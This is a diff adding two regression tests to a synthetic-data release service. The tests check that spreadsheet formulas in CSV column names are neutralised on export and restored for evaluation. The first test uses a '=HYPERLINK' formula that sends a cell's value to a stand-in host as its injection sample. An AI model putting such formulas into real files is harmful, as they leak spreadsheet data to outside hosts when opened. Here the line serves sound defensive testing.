@@ -646,3 +646,38 @@ def test_a_release_whose_memory_plan_exceeds_the_limit_is_refused_before_reserva
     body = '{"mechanism": "dpmerf", "epsilon": "1", "delta": "1e-6"}'
     text = timed(api_post(world, f"/api/datasets/{world.dataset.pk}/releases/", body), "memory limit per job is 8.0 GiB")
     assert "dpmerf would need about" in text
+
+
+def test_formulas_in_column_names_are_neutralised_in_the_header_and_the_manifest_keeps_true_names(world):
+    """Issue 16: '=HYPERLINK(...)' as a column name reached analysts verbatim in the header row."""
+    import csv as csv_module
+
+    evil = '=HYPERLINK("http://x.example/?"&A2)'
+    schema = json.loads(json.dumps(SMALL_SCHEMA))
+    schema["columns"][0]["name"] = evil
+    schema["columns"][1]["name"] = "@city"
+    text = HEADER.replace("age", '"' + evil.replace('"', '""') + '"').replace("city", "@city") + \
+        "".join(f"{30 + i},Paris,100,x\n" for i in range(10))
+    ds = make_dataset(world.owner, text=text, schema=schema)
+    release = run_release(ds, world.owner, rows=20)
+    body = world.client(world.owner).get(f"/releases/{release.pk}/synthetic.csv")
+    header = next(csv_module.reader(io.StringIO(b"".join(body.streaming_content).decode())))
+    assert header == ["'" + evil, "'@city", "income"]  # (excluded columns are not synthesized)
+    manifest = world.client(world.owner).get(f"/api/releases/{release.pk}/manifest.json", **world.api(world.owner))
+    assert [c["name"] for c in manifest.json()["schema"]["columns"]][:2] == [evil, "@city"]
+
+
+def test_the_header_guard_is_undone_for_evaluation():
+    import pandas as pd
+
+    from mechanisms.evaluation import undo_formula_guard
+    from mechanisms.io import neutralize_formulas
+    from mechanisms.schema import Schema
+
+    schema = Schema.from_dict({"columns": [{"name": "=a", "kind": "categorical", "categories": ["-x", "y"]},
+                                           {"name": "b", "kind": "integer", "lower": -5, "upper": 5}]})
+    df = pd.DataFrame({"=a": ["-x", "y"], "b": [-1, 2]})
+    guarded = neutralize_formulas(df)
+    assert list(guarded.columns) == ["'=a", "b"] and list(guarded["b"]) == [-1, 2]
+    back = undo_formula_guard(schema, guarded.astype(str))
+    assert list(back.columns) == ["=a", "b"] and list(back["=a"]) == ["-x", "y"]
